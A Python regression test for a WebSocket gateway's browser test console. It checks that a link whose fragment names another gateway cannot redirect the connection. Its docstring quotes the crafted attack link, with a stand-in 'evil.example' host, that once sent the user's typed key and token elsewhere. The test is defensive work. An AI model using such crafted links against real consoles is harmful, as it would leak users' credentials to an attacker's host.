"""The test console connects to its own origin, whatever its link's fragment says (real Chromium).

The console took ``base``, the gateway it connects to, from the URL fragment: a crafted link
(``/_gateway/console#base=ws://evil.example``) pointed it at another host, which then received the
subscription key and the token the user typed, in the handshake's query.
"""

from __future__ import annotations

import asyncio

from fastapi import FastAPI
from fastapi.responses import HTMLResponse

from asgi_ws_gateway import WebSocketGateway
from asgi_ws_gateway.management import GatewayManagement
from support.browser import check_page, dump_dom, needs_chromium, page_report
from support.servers import UvicornFactory
from support.upstream import UpstreamServer

pytestmark = needs_chromium

ADMIN = "console-base-admin-token"
TYPED_KEY = "the-key-the-user-typed"


def _check(elsewhere: str) -> str:
    """The console, linked with ``base`` naming ``elsewhere``; the user types a key and connects."""
    return check_page(
        "console base check",
        f'<iframe id="console" src="/_gateway/console#token={ADMIN}&amp;api=echo&amp;base={elsewhere}"></iframe>',
        """
const doc = () => document.getElementById("console").contentDocument;
const texts = () => Array.from(doc() ? doc().querySelectorAll("#log li .text") : [], (t) => t.textContent);
const loaded = () => doc() && doc().querySelectorAll("select[name=api] option").length > 0;
(async () => {
  await holdUntil(loaded);
  const form = doc().getElementById("setup");
  form.key.value = "TYPED_KEY";
  form.open.click();
  await holdUntil(() => texts().some((text) => text.startsWith("open") || text.startsWith("closed")));
  if (texts().some((text) => text.startsWith("open"))) {
    doc().querySelector("#send textarea").value = "hello";
    doc().querySelector("#send button[name=text]").click();
    await holdUntil(() => texts().filter((text) => text === "hello").length >= 2);
  }
  document.getElementById("report").textContent = JSON.stringify({ base: form.base.value, log: texts() });
})();
""".replace("TYPED_KEY", TYPED_KEY),
    )


def test_a_link_naming_another_gateway_is_not_followed(
    uvicorn_server: UvicornFactory, upstream: UpstreamServer
) -> None:
    """The handshake, with the typed key, goes to the console's own origin; the host the link named gets nothing."""
    with UpstreamServer() as elsewhere:
        app = FastAPI()

        @app.get("/browser-check/base", response_class=HTMLResponse)
        async def page() -> str:
            return _check(elsewhere.url("", scheme="ws"))

        @app.get("/browser-check/wait", status_code=204)
        async def wait() -> None:
            await asyncio.sleep(0.05)

        config = {"apis": [{"name": "echo", "path": "/ws/echo", "upstreams": [upstream.url("/echo")]}]}
        app.add_middleware(WebSocketGateway, config=config)
        app.add_middleware(GatewayManagement, path="/_gateway", admin_token=ADMIN)
        server = uvicorn_server(app, lifespan="on")
        report = page_report(dump_dom(server.url("/browser-check/base", scheme="http"), budget_ms=5000))
        assert report["base"] == server.url("").rstrip("/"), report
        assert report["log"][0] == f"connecting to {server.url('/ws/echo')}?subscription-key={TYPED_KEY}", report
        assert report["log"].count("hello") == 2, report  # sent, and echoed by the real upstream
        assert elsewhere.handshakes == [], "the host the link named received a handshake"
        assert [h.path for h in upstream.handshakes] == ["/echo?subscription-key=" + TYPED_KEY]
